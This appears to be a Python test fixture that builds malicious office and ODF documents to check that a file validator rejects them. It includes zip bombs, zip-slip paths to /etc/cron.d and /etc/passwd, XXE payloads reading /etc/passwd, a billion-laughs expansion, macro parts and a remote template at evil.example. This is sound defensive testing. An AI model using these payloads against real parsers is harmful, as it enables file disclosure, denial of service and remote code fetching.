"""Documents that are bombs, lie, lead out of themselves, run or fetch something, or declare entities."""

from __future__ import annotations

import io
import random
import stat
import zipfile

from tests.attacks.zips import (
    Made,
    lying_size,
    odf,
    office,
    office_parts,
    overlapping,
    packed,
    patched,
    relations,
    with_entry,
)

XXE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
LAUGHS = (
    '<!DOCTYPE a [<!ENTITY e0 "ha">'
    + "".join(f'<!ENTITY e{number} "{f"&e{number - 1};" * 10}">' for number in range(1, 12))
    + "]><a>&e11;</a>"
)
MB = 1 << 20


def many_entries(count: int = 70_000) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", allowZip64=True) as archive:
        for number in range(count):
            archive.writestr(zipfile.ZipInfo(f"{number}"), b"")
    return file.getvalue()


def spread_bomb() -> bytes:
    """Each part keeps below the free size, all together do not."""
    return office(parts={f"word/media/{number}.bin": bytes(7 * MB) for number in range(20)})


def nested_bomb() -> bytes:
    """Documents within a document, each within its own limits: together they pass the budget."""
    filler = random.Random(1).randbytes(MB // 10) + bytes(4 * MB)
    inner = office("xlsx", parts={f"xl/{number}.bin": filler for number in range(10)})
    return office(parts={f"word/embeddings/t{number}.xlsx": inner for number in range(5)})


def documents_three_deep() -> bytes:
    deepest = office("xlsx")
    middle = office("xlsx", parts={"xl/embeddings/a.xlsx": deepest})
    return office(parts={"word/embeddings/a.xlsx": middle})


DOCUMENTS: dict[str, Made] = {
    # bombs
    "docx with a part of 300 MB": (
        "a.docx",
        lambda: office(parts={"word/media/a.bin": bytes(300 * MB)}),
        "unpacks-too-big",
    ),
    "docx with a part packed 1,000 to 1": (
        "a.docx",
        lambda: office(parts={"word/a.bin": bytes(20 * MB)}),
        "unpacks-too-big",
    ),
    "docx bomb spread over parts": ("a.docx", spread_bomb, "unpacks-too-big"),
    "docx bomb nested in documents": ("a.docx", nested_bomb, "unpacks-too-big"),
    "docx with a huge list of contents": (
        "a.docx",
        lambda: office(parts={"[Content_Types].xml": "<Types>" + "<a/>" * (2 * MB) + "</Types>"}),
        "unpacks-too-big",
    ),
    "zip with 70,000 entries": ("a.docx", many_entries, "too-many-parts"),
    "zip that declares fewer entries than it has": (
        "a.docx",
        lambda: patched(many_entries(5_000), b"PK\x05\x06", 8, b"\x01\x00\x01\x00"),
        "polyglot",
    ),
    "entries that overlap": ("a.docx", overlapping, "polyglot"),
    # lies
    "size declared too small": ("a.docx", lambda: lying_size(10, 5 * MB), "damaged"),
    "size declared too large": ("a.docx", lambda: lying_size(5 * MB, 10), "damaged"),
    "size declared past the end of the world": ("a.docx", lambda: lying_size(0xFFFFFFF0, 10), "unpacks-too-big"),
    "packed in an unknown way": ("a.docx", lambda: patched(office(), b"PK\x01\x02", 10, b"\x63\x00"), "damaged"),
    "packed with LZMA": ("a.docx", lambda: packed(office_parts(), method=zipfile.ZIP_LZMA), "damaged"),
    "list of entries that points elsewhere": (
        "a.docx",
        lambda: patched(office(), b"PK\x05\x06", 16, b"\x05\x00\x00\x00"),
        "polyglot",
    ),
    "list of entries that is noise": ("a.docx", lambda: patched(office(), b"PK\x01\x02", 0, b"NOPE"), "damaged"),
    "local header that is noise": ("a.docx", lambda: patched(office(), b"PK\x03\x04", 0, b"NOPE"), "damaged"),
    # places and names
    "zip slip": ("a.docx", lambda: with_entry("../../etc/cron.d/x"), "part-name"),
    "zip slip to an absolute path": ("a.docx", lambda: with_entry("/etc/passwd"), "part-name"),
    "zip slip with backslashes": ("a.docx", lambda: with_entry("..\\..\\a\\bc"), "part-name"),
    "zip slip to a drive": ("a.docx", lambda: with_entry("C:/Windows/a"), "part-name"),
    "name cut by a zero byte": ("a.docx", lambda: with_entry("a.xml\x00.exe"), "part-name"),
    "symbolic link": (
        "a.docx",
        lambda: with_entry("word/link", b"/etc/passwd", mode=stat.S_IFLNK | 0o777),
        "part-name",
    ),
    "two entries of one name": ("a.docx", lambda: with_entry("WORD/document.xml", b"<a/>"), "part-name"),
    "encrypted part": ("a.docx", lambda: with_entry("word/secret", flags=1), "encrypted"),
    # what is inside
    "zip within a document": ("a.docx", lambda: office(parts={"word/media/a.png": packed({"a": b"x"})}), "nested"),
    "program within a document": ("a.docx", lambda: office(parts={"word/media/a.png": b"MZ\x90\x00"}), "nested"),
    "documents three deep": ("a.docx", documents_three_deep, "embedded"),
    "OLE object": ("a.docx", lambda: office(parts={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), "embedded"),
    "ActiveX control": ("a.docx", lambda: office(parts={"word/activeX/activeX1.xml": "<a/>"}), "embedded"),
    "vbaProject inside docx": ("a.docx", lambda: office(parts={"word/vbaProject.bin": b"\xd0\xcf"}), "macros"),
    "docm": (
        "a.docm",
        lambda: office(content_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "macros",
    ),
    "xlsm called xlsx": (
        "a.xlsx",
        lambda: office("xlsx", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        "macros",
    ),
    "xlsx with a macro sheet": (
        "a.xlsx",
        lambda: office("xlsx", parts={"xl/macrosheets/sheet1.xml": "<a/>"}),
        "macros",
    ),
    "odt with Basic": ("a.odt", lambda: odf(parts={"Basic/Standard/Module1.xml": "<a/>"}), "macros"),
    "remote template": (
        "a.docx",
        lambda: office(
            parts={
                "word/_rels/settings.xml.rels": relations(("attachedTemplate", "https://evil.example/a", "External"))
            }
        ),
        "remote",
    ),
    "linked picture on a file server": (
        "a.docx",
        lambda: office(parts={"word/_rels/document.xml.rels": relations(("image", r"\\evil\share\a.png", "External"))}),
        "remote",
    ),
    # markup
    "XXE in docx": ("a.docx", lambda: office(parts={"word/document.xml": XXE}), "document-type"),
    "XXE in xlsx": ("a.xlsx", lambda: office("xlsx", parts={"xl/sharedStrings.xml": XXE}), "document-type"),
    "XXE in the list of contents": ("a.docx", lambda: office(parts={"[Content_Types].xml": XXE}), "document-type"),
    "XXE in relations": ("a.docx", lambda: office(parts={"_rels/.rels": XXE}), "document-type"),
    "XXE in UTF-16": ("a.docx", lambda: office(parts={"word/document.xml": XXE.encode("utf-16")}), "document-type"),
    "XXE in UTF-16 without a mark": (
        "a.docx",
        lambda: office(parts={"word/document.xml": XXE.encode("utf-16-le")}),
        "document-type",
    ),
    "XXE in an unusual encoding": (
        "a.docx",
        lambda: office(parts={"word/document.xml": b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE'}),
        "document-type",
    ),
    "XXE in EBCDIC": ("a.docx", lambda: office(parts={"word/document.xml": XXE.encode("cp500")}), "document-type"),
    "doctype behind 65,530 blanks": (
        "a.docx",
        lambda: office(parts={"word/document.xml": "<a>" + " " * 65_527 + "<!DOCTYPE a><b/></a>"}),
        "document-type",
    ),
    "billion laughs in odt": ("a.odt", lambda: odf(parts={"content.xml": LAUGHS}), "document-type"),
}
